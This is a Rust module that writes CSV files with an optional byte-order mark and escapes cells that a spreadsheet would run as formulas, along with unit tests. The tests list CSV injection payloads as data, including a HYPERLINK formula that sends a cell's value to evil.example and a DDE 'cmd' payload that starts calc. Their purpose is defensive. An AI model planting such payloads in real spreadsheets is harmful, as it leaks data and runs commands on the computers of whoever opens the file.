//! Writing CSV: the optional byte-order mark, and the apostrophe that stops
//! a spreadsheet from running a cell as a formula (which import removes).

use std::borrow::Cow;
use std::io::{self, Write};
use std::sync::atomic::{AtomicBool, Ordering};

use super::escape_text;

/// Whether CSV starts with a byte-order mark (`--bom`): set once, from the
/// command line, before any output; a process writes one kind of CSV.
static CSV_BOM: AtomicBool = AtomicBool::new(false);

/// The UTF-8 byte-order mark: without it, Excel reads a CSV file as the
/// Windows code page and shows "Zoë" as "ZoÃ«".
pub const BOM: &str = "\u{feff}";

/// Makes every CSV written from now on start with a byte-order mark.
pub fn set_csv_bom(on: bool) {
    CSV_BOM.store(on, Ordering::Relaxed);
}

/// Writes CSV: a header row, then each record with every cell protected
/// (see [`csv_cell`]). Every CSV mot writes goes through here.
pub fn csv_records<R, C>(out: &mut dyn Write, headers: &[&str], records: R) -> io::Result<()>
where
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    csv_records_with(out, CSV_BOM.load(Ordering::Relaxed), headers, records)
}

fn csv_records_with<R, C>(
    out: &mut dyn Write,
    bom: bool,
    headers: &[&str],
    records: R,
) -> io::Result<()>
where
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    if bom {
        out.write_all(BOM.as_bytes())?;
    }
    let mut w = csv::Writer::from_writer(out);
    w.write_record(headers)?;
    for record in records {
        for cell in record {
            w.write_field(csv_cell(cell.as_ref()).as_bytes())?;
        }
        w.write_record(None::<&[u8]>)?;
    }
    w.flush()
}

/// What a spreadsheet would read as the start of a formula (OWASP's list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell needs the protecting apostrophe: it starts a formula once
/// any apostrophes in front are dropped. Counting those apostrophes in makes
/// protection reversible: a name that really is `'=x` is written `''=x`.
fn needs_protection(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// A CSV cell as written: escaped like text (its line breaks stay, quoted),
/// and with a leading `'` when a spreadsheet would otherwise run it as a
/// formula. [`unprotect_csv`] undoes exactly that apostrophe.
fn csv_cell(s: &str) -> Cow<'_, str> {
    let text = escape_text(s);
    if needs_protection(&text) {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

/// A cell read back from a CSV: the apostrophe [`csv_cell`] added is dropped
/// (and only that one), so an export re-imports to the same values.
pub fn unprotect_csv(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_protection(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bom_starts_the_csv_only_when_asked() {
        let rows = [["Zoë"]];
        let mut with = Vec::new();
        csv_records_with(&mut with, true, &["name"], rows).unwrap();
        assert_eq!(with, "\u{feff}name\nZoë\n".as_bytes());
        let mut without = Vec::new();
        csv_records_with(&mut without, false, &["name"], rows).unwrap();
        assert_eq!(without, "name\nZoë\n".as_bytes());
    }

    #[test]
    fn csv_formula_cells_get_an_apostrophe_that_import_removes() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&C2,\"Click me\")",
                true,
            ),
            ("+cmd|' /C calc'!A0", true),
            ("@SUM(1+1)", true),
            ("-2+3", true),
            ("=1+1", true),
            ("+447700900001", true),
            ("'=already quoted", true),
            ("''+x", true),
            ("Asha Patel", false),
            ("O'Brien", false),
            ("'quoted'", false),
            ("", false),
        ];
        for (value, protected) in cases {
            let written = csv_cell(value);
            assert_eq!(
                written.starts_with('\'') && written != value,
                protected,
                "{value}"
            );
            assert!(!written.starts_with(FORMULA_START), "{value}");
            assert_eq!(unprotect_csv(&written), value, "round trip of {value}");
        }
        // Tab and CR cannot start a written cell: they are escaped first.
        assert_eq!(csv_cell("\t=1"), "\\t=1");
        assert_eq!(unprotect_csv("'\t=1"), "\t=1");
        assert_eq!(unprotect_csv("'\r"), "\r");
    }
}
